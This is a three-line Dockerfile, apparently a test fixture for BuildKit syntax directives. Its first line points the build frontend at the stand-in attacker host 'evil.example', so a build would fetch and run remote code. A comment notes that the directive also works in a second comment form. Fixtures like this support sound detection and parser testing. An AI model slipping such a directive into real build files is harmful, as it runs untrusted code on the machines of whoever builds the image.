// syntax=evil.example/frontend
# dockerfile-syntax: the same, in the other comment that BuildKit knows
FROM nginx
